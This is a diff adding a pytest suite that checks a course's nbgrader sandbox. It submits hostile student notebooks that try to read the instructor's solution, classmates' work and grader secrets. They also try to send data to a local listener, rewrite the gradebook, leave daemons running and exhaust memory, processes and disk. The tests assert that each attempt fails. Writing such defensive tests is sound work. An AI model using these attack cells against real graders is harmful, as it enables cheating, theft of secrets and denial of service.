@@ -1,0 +1,449 @@
+"""Grading that no submission can subvert: every graded notebook runs in a sandbox
+(attention_ref/course/sandbox.py).
+
+A hostile class of notebook 01 is graded through `make grade`'s code path with two
+workers, next to honest students. Each hostile submission holds a correct solution plus
+cells that act only while they are graded (``NBGRADER_EXECUTION=autograde``) and print
+what they managed: read the instructor's source notebook, a classmate's submission, the
+grader's secrets in the environment, the reference sources; send data to a listener on
+127.0.0.1; write the course root, the installed package, the gradebook; start processes
+that outlive grading; exhaust memory, processes and disk. The test reads each attack's
+outcome from the graded notebook and asserts that it failed, that the honest students'
+grades are exactly their marks, that the report names the caps that stopped a cell, and
+that the feedback shows the hidden tests' points, never their code. The same attacks are
+then made under ``nbgrader autograde`` run directly in the course root. Where no sandbox
+can start, grading refuses, unless switched off, and then the report says so first.
+"""
+
+# ruff: noqa: E501 - the attacks are code in strings, one attempt a line
+
+from __future__ import annotations
+
+import contextlib
+import json
+import os
+import re
+import socket
+import sys
+import threading
+import time
+from pathlib import Path
+
+import nbformat
+import pytest
+
+from course_tools import (
+    ROOT,
+    auto_points,
+    make_course,
+    run_course,
+    solution_path,
+    test_cells,
+)
+from test_grading import solved_submission, submit
+
+pytestmark = pytest.mark.grading
+
+AID = "01_dot_product_attention"
+SECRET = "pg-secret-4f1c9e"  # in the grader's environment, as a database password is
+TOKEN = "hub-token-77ab03"
+OUTLIVE = "outlive-marker-5d21"
+CAPS = {
+    "ATTENTION_REF_SANDBOX_MEMORY": "2G",
+    "ATTENTION_REF_SANDBOX_PROCESSES": "64",
+    "ATTENTION_REF_SANDBOX_DISK": "64M",
+}
+LIMITS = {"NBGRADER_CELL_TIMEOUT": "20", "NBGRADER_TIMEOUT_AFTER": "6"}
+
+# Each attack prints "ATTACK <name>: <what happened>"; "BREACH" marks a success.
+ATTACK_PRELUDE = """
+import os as _os
+
+def _attack(name, fn):
+    if _os.environ.get("NBGRADER_EXECUTION") != "autograde":
+        return
+    try:
+        got = fn()
+        print(f"ATTACK {name}: BREACH {str(got)[:300]!r}")
+    except BaseException as err:
+        print(f"ATTACK {name}: held ({type(err).__name__}: {str(err)[:120]})")
+"""
+
+
+def read_attacks(course: Path, student: str) -> str:
+    path = course / "submitted" / student / AID / f"{AID}.ipynb"
+    return (
+        ATTACK_PRELUDE
+        + f"""
+import glob, inspect, socket
+_attack("read the source notebook", lambda: open({str(course / "solutions" / AID / (AID + ".ipynb"))!r}).read())
+_attack("read a classmate", lambda: open({str(path).replace(student, "honest")!r}).read())
+_attack("list the submissions", lambda: glob.glob({str(course / "submitted")!r} + "/*") or 1 / 0)
+_attack("read the environment", lambda: [k for k in _os.environ if {SECRET!r} in _os.environ[k] or {TOKEN!r} in _os.environ[k]] or 1 / 0)
+_attack("read the grader's environ", lambda: [p for p in glob.glob("/proc/*/environ") if {SECRET!r}.encode() in open(p, "rb").read()] or 1 / 0)
+_attack("read the reference source", lambda: inspect.getsource(__import__("attention_ref").sdpa))
+_attack("read the package on disk", lambda: open({str(ROOT / "attention_ref" / "attention.py")!r}).read())
+_attack("read a home folder", lambda: _os.listdir(_os.path.expanduser("~root")) or 1 / 0)
+"""
+    )
+
+
+def write_attacks(course: Path, port: int) -> str:
+    import attention_ref.checks
+
+    checks_dir = Path(attention_ref.checks.__file__).parent
+    return (
+        ATTACK_PRELUDE
+        + f"""
+import socket, sqlite3
+def _send():
+    s = socket.create_connection(("127.0.0.1", {port}), timeout=3)
+    s.sendall(b"LEAK"); s.close()
+    return "sent"
+_attack("network", _send)
+_attack("write the course root", lambda: open({str(course / "pwned.txt")!r}, "w").write("x"))
+_attack("write the installed package", lambda: open({str(checks_dir / "pwned.py")!r}, "w").write("x"))
+_attack("write the package it imports", lambda: open(_os.path.join(_os.path.dirname(__import__("attention_ref.checks").checks.__file__), "pwned.py"), "w").write("x"))
+def _gradebook():
+    db = sqlite3.connect({str(course / "gradebook.db")!r})
+    db.execute("update grade set auto_score = 0")
+    db.commit()
+    return "rewritten"
+_attack("rewrite the gradebook", _gradebook)
+"""
+    )
+
+
+OUTLIVE_ATTACK = (
+    ATTACK_PRELUDE
+    + f"""
+import subprocess, sys
+def _outlive():
+    subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)", {OUTLIVE!r}],
+                     start_new_session=True)
+    if _os.fork() == 0:  # a daemon, twice forked
+        _os.setsid()
+        if _os.fork() == 0:
+            _os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(600)", {OUTLIVE!r}])
+        _os._exit(0)
+    return "started (held if they are gone after grading)"
+_attack("outlive the notebook", _outlive)
+"""
+)
+
+# The resource attacks do not catch what stops them: the cell fails, as a real one would.
+GRADED_ONLY = 'import os\nif os.environ.get("NBGRADER_EXECUTION") == "autograde":\n'
+MEMORY_ATTACK = (
+    GRADED_ONLY
+    + """\
+    import numpy as np
+
+    print("ATTACK memory: 6 GiB", np.ones(6 * 2**30, dtype=np.uint8).sum())
+"""
+)
+PROCESS_ATTACK = (
+    GRADED_ONLY
+    + """\
+    import time
+
+    kids = []
+    for _ in range(400):  # bounded: 400 sleepers, were the cap to fail
+        pid = os.fork()
+        if pid == 0:
+            time.sleep(30)
+            os._exit(0)
+        kids.append(pid)
+    print(f"ATTACK processes: {len(kids)} started")
+"""
+)
+DISK_ATTACK = (
+    GRADED_ONLY
+    + """\
+    with open("/tmp/fill", "wb") as f:
+        for _ in range(256):  # 256 MiB, four times the test's cap
+            f.write(b"x" * 2**20)
+    print("ATTACK disk: 256 MiB written")
+"""
+)
+
+
+def with_cells(*sources: str):
+    """The solved notebook with ``sources`` as extra cells after its first test cell."""
+    nb = solved_submission(AID)
+    i = nb.cells.index(test_cells(nb)[0])
+    for k, src in enumerate(sources):
+        nb.cells.insert(i + 1 + k, nbformat.v4.new_code_cell(src))
+    return nb
+
+
+def outputs(course: Path, student: str) -> str:
+    """Everything the graded notebook of ``student`` printed."""
+    nb = nbformat.read(course / "autograded" / student / AID / f"{AID}.ipynb", as_version=4)
+    return json.dumps([c.get("outputs", []) for c in nb.cells])
+
+
+def attack_lines(course: Path, student: str) -> dict[str, str]:
+    nb = nbformat.read(course / "autograded" / student / AID / f"{AID}.ipynb", as_version=4)
+    lines = {}
+    for cell in nb.cells:
+        for out in cell.get("outputs", []):
+            for m in re.finditer(r"ATTACK (.+?): (.*)", out.get("text", "")):
+                lines[m.group(1)] = m.group(2)
+    return lines
+
+
+class Listener:
+    """A TCP listener on 127.0.0.1 that records whatever reaches it."""
+
+    def __init__(self):
+        self.sock = socket.socket()
+        self.sock.bind(("127.0.0.1", 0))
+        self.sock.listen()
+        self.sock.settimeout(0.5)
+        self.port = self.sock.getsockname()[1]
+        self.received: list[bytes] = []
+        self.stop = threading.Event()
+        self.thread = threading.Thread(target=self.run, daemon=True)
+        self.thread.start()
+
+    def run(self):
+        while not self.stop.is_set():
+            try:
+                conn, _ = self.sock.accept()
+            except OSError:
+                continue
+            self.received.append(conn.recv(100) or b"(connected)")
+            conn.close()
+
+    def close(self):
+        self.stop.set()
+        self.thread.join()
+        self.sock.close()
+
+
+def outliving_processes() -> list[str]:
+    found = []
+    for p in Path("/proc").glob("[0-9]*/cmdline"):
+        try:
+            if OUTLIVE.encode() in p.read_bytes():
+                found.append(p.parent.name)
+        except OSError:
+            pass
+    return found
+
+
+@pytest.fixture(scope="module")
+def hostile_class(tmp_path_factory):
+    course = make_course(tmp_path_factory.mktemp("sandbox") / "course", [AID])
+    listener = Listener()
+    submit(course, "honest", AID, solved_submission(AID))
+    submit(course, "honest-2", AID, solved_submission(AID))
+    submit(course, "hostile-read", AID, with_cells(read_attacks(course, "hostile-read")))
+    submit(course, "hostile-write", AID, with_cells(write_attacks(course, listener.port)))
+    submit(course, "hostile-outlive", AID, with_cells(OUTLIVE_ATTACK))
+    submit(course, "hostile-caps", AID, with_cells(MEMORY_ATTACK, PROCESS_ATTACK, DISK_ATTACK))
+    env = {**LIMITS, **CAPS, "PGPASSWORD": SECRET, "JUPYTERHUB_API_TOKEN": TOKEN}
+    start = time.perf_counter()
+    proc = run_course(course, "grade", "--jobs", "2", env_extra=env)
+    seconds = time.perf_counter() - start
+    time.sleep(1)
+    survivors = outliving_processes()
+    listener.close()
+    yield course, proc, listener, survivors, seconds
+    for pid in survivors:  # never leave them behind, whatever the test found
+        with contextlib.suppress(OSError):
+            os.kill(int(pid), 9)
+
+
+def test_the_class_is_graded_and_the_honest_grades_are_exact(hostile_class):
+    course, proc, *_ = hostile_class
+    assert proc.returncode == 0, proc.stdout + proc.stderr
+    assert "sandbox: each notebook in its own" in proc.stdout
+    total = auto_points(nbformat.read(solution_path(AID), as_version=4))
+    with open(course / "grades.csv") as f:
+        scores = {r["student_id"]: float(r["score"]) for r in __import__("csv").DictReader(f)}
+    # The attacks cost nothing and gain nothing: every submission holds a full solution.
+    assert scores == dict.fromkeys(
+        ["honest", "honest-2", "hostile-read", "hostile-write", "hostile-outlive", "hostile-caps"],
+        total,
+    ), scores
+
+
+READS = [
+    "read the source notebook",
+    "read a classmate",
+    "list the submissions",
+    "read the environment",
+    "read the grader's environ",
+    "read the reference source",
+    "read the package on disk",
+    "read a home folder",
+]
+
+
+@pytest.mark.parametrize("attack", READS)
+def test_a_submission_reads_nothing_that_is_not_its_own(hostile_class, attack):
+    course = hostile_class[0]
+    lines = attack_lines(course, "hostile-read")
+    assert lines.get(attack, "").startswith("held"), (attack, lines)
+    printed = outputs(course, "hostile-read")
+    assert "BEGIN SOLUTION" not in printed and SECRET not in printed and TOKEN not in printed
+
+
+WRITES = [
+    "network",
+    "write the course root",
+    "write the installed package",
+    "write the package it imports",
+    "rewrite the gradebook",
+]
+
+
+@pytest.mark.parametrize("attack", WRITES)
+def test_a_submission_writes_and_sends_nothing_outside_its_sandbox(hostile_class, attack):
+    course, _, listener, _, _ = hostile_class
+    lines = attack_lines(course, "hostile-write")
+    assert lines.get(attack, "").startswith("held"), (attack, lines)
+    assert listener.received == []
+    assert not (course / "pwned.txt").exists()
+    import attention_ref.checks
+
+    assert not (Path(attention_ref.checks.__file__).parent / "pwned.py").exists()
+
+
+def test_nothing_a_submission_starts_outlives_its_notebook(hostile_class):
+    course, _, _, survivors, _ = hostile_class
+    lines = attack_lines(course, "hostile-outlive")
+    assert lines["outlive the notebook"].startswith("BREACH 'started"), lines  # it ran...
+    assert survivors == [], f"processes outlived grading: {survivors}"  # ...and is gone
+
+
+@pytest.mark.parametrize(
+    ("attack", "error", "cap"),
+    [
+        ("memory", "MemoryError: Unable to allocate 6.00 GiB", "memory"),
+        ("processes", "BlockingIOError: [Errno 11] Resource temporarily unavailable", "processes"),
+        ("disk", "OSError: [Errno 28] No space left on device", "bytes written"),
+    ],
+)
+def test_each_resource_cap_stops_its_attack_with_an_error_the_report_names(
+    hostile_class, attack, error, cap
+):
+    course, proc, *_ = hostile_class
+    nb = nbformat.read(course / "autograded" / "hostile-caps" / AID / f"{AID}.ipynb", as_version=4)
+    cell = next(c for c in nb.cells if f"ATTACK {attack}" in c.source)
+    errors = [f"{o.ename}: {o.evalue}" for o in cell.outputs if o.output_type == "error"]
+    assert len(errors) == 1 and errors[0].startswith(error), errors
+    printed = [o.get("text", "") for o in cell.outputs if o.output_type == "stream"]
+    assert f"ATTACK {attack}" not in "".join(printed)  # it never got that far
+    report = proc.stdout[proc.stdout.index("Grading report") :].splitlines()
+    i = next(i for i, line in enumerate(report) if "hostile-caps" in line)
+    notes = [line for line in report[i + 1 :] if line.startswith("      - ")]
+    index = nb.cells.index(cell) + 1
+    assert any(f"cell {index} hit the sandbox's cap on {cap}" in n for n in notes), notes
+
+
+def test_feedback_shows_hidden_tests_ran_and_their_points_never_their_code(hostile_class):
+    course = hostile_class[0]
+    env = dict(os.environ, PATH=f"{Path(sys.executable).parent}:{os.environ['PATH']}")
+    import subprocess
+
+    proc = subprocess.run(
+        [sys.executable, "-m", "nbgrader", "generate_feedback", AID, "--student", "honest"],
+        cwd=course,
+        capture_output=True,
+        text=True,
+        env=env,
+    )
+    assert proc.returncode == 0, proc.stdout + proc.stderr
+    html = (course / "feedback" / "honest" / AID / f"{AID}.html").read_text()
+    source = nbformat.read(solution_path(AID), as_version=4)
+    hidden = [c.source for c in test_cells(source) if "BEGIN HIDDEN TESTS" in c.source]
+    assert hidden, "the notebook has no hidden tests: the test proves nothing"
+    assert "_fresh_check" not in html and "BEGIN HIDDEN TESTS" not in html
+    assert html.count("hidden tests ran here") == len(hidden)
+    # Each test cell shows its points (the honest student earned them all).
+    points = sorted(float(c.metadata["nbgrader"]["points"]) for c in test_cells(source))
+    shown = sorted(
+        float(a) for a, b in re.findall(r"\(Score: ([\d.]+) / ([\d.]+)\)", html) if a == b
+    )
+    assert shown == points, (shown, points)
+
+
+def test_nbgrader_autograde_run_directly_is_sandboxed_too(hostile_class, tmp_path):
+    course = hostile_class[0]
+    student = "direct"
+    submit(course, student, AID, with_cells(read_attacks(course, student)))
+    env = dict(os.environ, PGPASSWORD=SECRET, JUPYTERHUB_API_TOKEN=TOKEN, **LIMITS)
+    env["PATH"] = f"{Path(sys.executable).parent}:{os.environ['PATH']}"
+    import subprocess
+
+    proc = subprocess.run(
+        [sys.executable, "-m", "nbgrader", "autograde", AID, "--student", student],
+        cwd=course,
+        capture_output=True,
+        text=True,
+        env=env,
+    )
+    assert proc.returncode == 0, proc.stdout + proc.stderr
+    lines = attack_lines(course, student)
+    assert set(READS) <= set(lines), lines
+    assert all(lines[a].startswith("held") for a in READS), lines
+
+
+def fake_bwrap(folder: Path) -> Path:
+    """A PATH folder whose bwrap fails as it does where user namespaces are disabled."""
+    folder.mkdir()
+    exe = folder / "bwrap"
+    exe.write_text("#!/bin/sh\necho 'bwrap: No permissions to create new namespace' >&2\nexit 1\n")
+    exe.chmod(0o755)
+    return folder
+
+
+def test_grading_refuses_where_no_sandbox_starts_unless_switched_off(tmp_path):
+    course = make_course(tmp_path / "course", ["02_masking"])
+    submit(course, "honest", "02_masking", solved_submission("02_masking"))
+    path = f"{fake_bwrap(tmp_path / 'bin')}:{Path(sys.executable).parent}:/usr/bin:/bin"
+    refused = run_course(course, "grade", env_extra={"PATH": path})
+    assert refused.returncode == 2, refused.stdout + refused.stderr
+    assert "grading refused" in refused.stderr and "user namespaces" in refused.stderr
+    assert "ATTENTION_REF_SANDBOX=off" in refused.stderr
+    assert not (course / "autograded").exists()
+    opted_out = run_course(
+        course, "grade", env_extra={"PATH": path, "ATTENTION_REF_SANDBOX": "off"}
+    )
+    assert opted_out.returncode == 0, opted_out.stdout + opted_out.stderr
+    assert opted_out.stdout.splitlines()[0].startswith("WARNING: UNSANDBOXED GRADING")
+    report = opted_out.stdout[opted_out.stdout.index("Grading report") :].splitlines()
+    assert report[1].startswith("WARNING: UNSANDBOXED GRADING"), report[:3]
+
+
+def test_bad_cap_settings_are_refused_with_a_message(tmp_path):
+    course = make_course(tmp_path / "course", ["02_masking"])
+    submit(course, "honest", "02_masking", solved_submission("02_masking"))
+    proc = run_course(course, "grade", env_extra={"ATTENTION_REF_SANDBOX_MEMORY": "lots"})
+    assert proc.returncode == 2
+    assert "ATTENTION_REF_SANDBOX_MEMORY must be a size such as 3G" in proc.stderr
+    assert not (course / "autograded").exists()
+
+
+def test_the_kernel_environment_keeps_only_what_grading_needs():
+    sys.path.insert(0, str(ROOT / "attention_ref" / "course"))
+    from attention_ref.course.sandbox import kernel_env
+
+    env = kernel_env(
+        {
+            "PGPASSWORD": SECRET,
+            "NBGRADER_DB_URL": "postgresql://u:p@h/db",
+            "JUPYTERHUB_API_TOKEN": TOKEN,
+            "AWS_SECRET_ACCESS_KEY": "k",
+            "NBGRADER_EXECUTION": "autograde",
+            "ATTENTION_REF_GRADING_STEPS": "2",
+            "ATTENTION_REF_SANDBOX_MEMORY": "3G",
+        }
+    )
+    assert env["NBGRADER_EXECUTION"] == "autograde"
+    assert env["ATTENTION_REF_GRADING_STEPS"] == "2"
+    assert not {"PGPASSWORD", "NBGRADER_DB_URL", "JUPYTERHUB_API_TOKEN"} & set(env)
+    assert not {"AWS_SECRET_ACCESS_KEY", "ATTENTION_REF_SANDBOX_MEMORY"} & set(env)
+    assert json.dumps(env).count(SECRET) == 0
